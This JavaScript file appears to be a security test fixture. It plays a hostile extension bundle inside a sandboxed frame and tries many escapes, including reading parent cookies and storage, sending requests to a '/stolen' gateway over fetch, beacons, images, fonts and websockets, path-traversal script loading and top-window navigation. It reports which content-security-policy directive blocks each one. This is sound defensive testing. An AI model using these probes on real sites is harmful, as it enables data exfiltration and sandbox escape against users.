// The script of a bundle that means harm. The frame's host says by message what to aim at; every attempt is
// made once, and each result is told: "worked", or what stopped it.

const WAIT_MS = 1500;
const FEATURES = ["camera", "microphone", "geolocation", "usb", "serial", "hid", "midi", "payment", "clipboard-read"];
const seen = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));

const violation = (directive) => () => seen.includes(directive);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Do something that is refused silently; say which directive of the page's policy was violated. */
async function refusedBy(directive, act) {
  seen.length = 0;
  try {
    await act();
  } catch (error) {
    await pause(0);
    if (!violation(directive)()) return error.name;
  }
  for (let waited = 0; waited < WAIT_MS && !violation(directive)(); waited += 20) await pause(20);
  return violation(directive)() ? directive : "silence";
}

async function thrown(act) {
  try {
    await act();
    return "worked";
  } catch (error) {
    return error.name;
  }
}

function added(tag, properties) {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
}

/** Load a script element; "worked" if it ran. */
function script(src) {
  return new Promise((resolve) => {
    added("script", { src, onload: () => resolve("worked"), onerror: () => resolve("error") });
  });
}

function worker(source) {
  return new Promise((resolve) => {
    const made = new Worker(source);
    made.onmessage = ({ data }) => resolve(data);
    made.onerror = () => resolve("error");
  });
}

function attempts({ gateway, rival, own }) {
  const target = `${gateway}/stolen`;
  const style = (text) => added("style", { textContent: text });
  return {
    "read the parent's document": () => thrown(() => parent.document.title),
    "read the top window's document": () => thrown(() => top.document.body),
    "read the parent's cookies": () => thrown(() => parent.document.cookie),
    "read the parent's storage": () => thrown(() => parent.localStorage.length),
    "read a variable of the parent": () => thrown(() => parent.secret),
    "read where the parent is": () => thrown(() => parent.location.href),
    "read its frame element": async () => (window.frameElement === null ? "nothing" : "worked"),
    "read its own cookies": () => thrown(() => document.cookie),
    "set a cookie": () => thrown(() => { document.cookie = "mine=1"; }),
    "use local storage": () => thrown(() => localStorage.setItem("a", "b")),
    "use session storage": () => thrown(() => sessionStorage.setItem("a", "b")),
    "open a database": () => thrown(() => indexedDB.open("mine")),
    "open a cache": () => thrown(() => caches.open("mine")),
    "use a file system": () => thrown(() => navigator.storage.getDirectory()),
    "register a service worker": () => thrown(() => navigator.serviceWorker.register(`${own}sw.js`)),
    "share a worker": () => thrown(() => new SharedWorker(`${own}worker.js`)),
    "lead the window elsewhere": () => thrown(() => { top.location.href = target; }),
    "replace the window's place": () => thrown(() => top.location.replace(target)),
    "open a window": async () => (window.open(target) === null ? "nothing" : "worked"),
    "click a link to a new window": async () => {
      added("a", { href: target, target: "_blank" }).click();
      return "tried";
    },
    "click a link to the top": async () => {
      added("a", { href: target, target: "_top" }).click();
      return "tried";
    },
    "show a dialogue": async () => (window.confirm("really?") ? "worked" : "nothing"),
    "fetch with credentials": () => refusedBy("connect-src", () => fetch(target, { credentials: "include" })),
    "fetch another extension's file": () => refusedBy("connect-src", () => fetch(`${rival}secret.json`)),
    "fetch its own file": () => refusedBy("connect-src", () => fetch(`${own}worker.js`)),
    "ask by XMLHttpRequest": () =>
      refusedBy("connect-src", () => {
        const request = new XMLHttpRequest();
        request.open("GET", target);
        request.withCredentials = true;
        request.send();
      }),
    "send a beacon": () => refusedBy("connect-src", () => navigator.sendBeacon(target, "x")),
    "open a web socket": () => refusedBy("connect-src", () => new WebSocket(target.replace("http", "ws"))),
    "listen to events": () => refusedBy("connect-src", () => new EventSource(target)),
    "ping by an image": () => refusedBy("img-src", () => added("img", { src: target })),
    "ping by a style": () => refusedBy("img-src", () => style(`#p { background: url("${target}") }`)),
    "import a style": () => refusedBy("style-src-elem", () => style(`@import "${target}";`)),
    "load a font": () =>
      refusedBy("font-src", () => style(`@font-face{font-family:x;src:url("${target}")} #p{font-family:x}`)),
    "load a sound": () => refusedBy("media-src", () => added("audio", { src: target, preload: "auto" })),
    "show another extension's picture": () => refusedBy("img-src", () => added("img", { src: `${rival}a.png` })),
    "prefetch a page": async () => {
      added("link", { rel: "prefetch", href: target });
      return "tried";
    },
    "frame the gateway": () => refusedBy("frame-src", () => added("iframe", { src: target })),
    "frame another extension": () => refusedBy("frame-src", () => added("iframe", { src: `${rival}index.html` })),
    "frame a page of data": () => refusedBy("frame-src", () => added("iframe", { src: "data:text/html,x" })),
    "embed an object": () => refusedBy("object-src", () => added("object", { data: target })),
    "run a script in a frame of its own": () =>
      new Promise((resolve) => {
        addEventListener("message", ({ source }) => source !== parent && resolve("worked"));
        setTimeout(() => resolve("silence"), WAIT_MS);
        added("iframe", { srcdoc: "<script>parent.postMessage('ran', '*')</script>" });
      }),
    "evaluate text": () => thrown(() => (0, eval)("1")),
    "make a function of text": () => thrown(() => new Function("return 1")()),
    "evaluate text in a timer": () => refusedBy("script-src", () => setTimeout("1")),
    "run an inline script": () => refusedBy("script-src-elem", () => added("script", { text: "1" })),
    "run an inline handler": () =>
      refusedBy("script-src-attr", () => {
        document.body.setAttribute("onclick", "1");
        document.body.click();
      }),
    "follow a script's address": () =>
      refusedBy("script-src-elem", () => added("a", { href: "javascript:void 0" }).click()),
    "compile WebAssembly": () =>
      thrown(() => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
    "run a script of data": () => script("data:text/javascript,0"),
    "run a script of a blob": () => script(URL.createObjectURL(new Blob(["0"]))),
    "run a script of the gateway": () => script(target),
    "run another extension's script": () => script(`${rival}library.js`),
    "run a script by way of its own folder": () =>
      script(`${own}..%2F..%2F${new URL(rival).pathname.slice("/ext-ui/".length).replaceAll("/", "%2F")}library.js`),
    "import another extension's module": () => thrown(() => import(`${rival}library.js`)),
    "change the base of addresses": () => refusedBy("base-uri", () => added("base", { href: `${gateway}/` })),
    "fetch from a worker of a blob": () =>
      worker(
        URL.createObjectURL(
          new Blob([`fetch("${target}").then(() => postMessage("worked"), (e) => postMessage(e.name))`]),
        ),
      ),
    "find out where it is": () =>
      new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(() => resolve("worked"), ({ code }) => resolve(`code ${code}`));
      }),
    "use what a device has": async () =>
      FEATURES.filter((feature) => document.featurePolicy.allowsFeature(feature)).join(" ") || "nothing",
    "read the clipboard": () => thrown(() => navigator.clipboard.readText()),
    "fill the screen": () => thrown(() => document.documentElement.requestFullscreen()),
    "ask for a notification": async () => (typeof Notification === "undefined" ? "denied" : Notification.permission),
    // What it may do, so that the refusals above mean something.
    "run a script of its own": () => script(`${own}worker.js?again`),
    "start a worker of a blob": () =>
      worker(URL.createObjectURL(new Blob(['postMessage("worked")']))),
  };
}

// Each may end with the page itself gone, so each is tried by itself.
const WAYS_OUT = {
  address: (target) => { location.href = target; },
  link: (target) => added("a", { href: target }).click(),
  form: (target) => added("form", { action: target, method: "post" }).submit(),
  refresh: (target) => {
    document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;${target}` }));
  },
};

addEventListener("message", async ({ data, source }) => {
  if (source !== parent) return;
  if (data.way) {
    WAYS_OUT[data.way](data.target);
    return;
  }
  const results = {};
  for (const [name, attempt] of Object.entries(attempts(data))) {
    results[name] = await Promise.race([attempt(), pause(WAIT_MS * 2).then(() => "no answer")]).catch(
      (error) => error.name,
    );
  }
  parent.postMessage({ results }, "*");
});
parent.postMessage({ is_here: true }, "*");
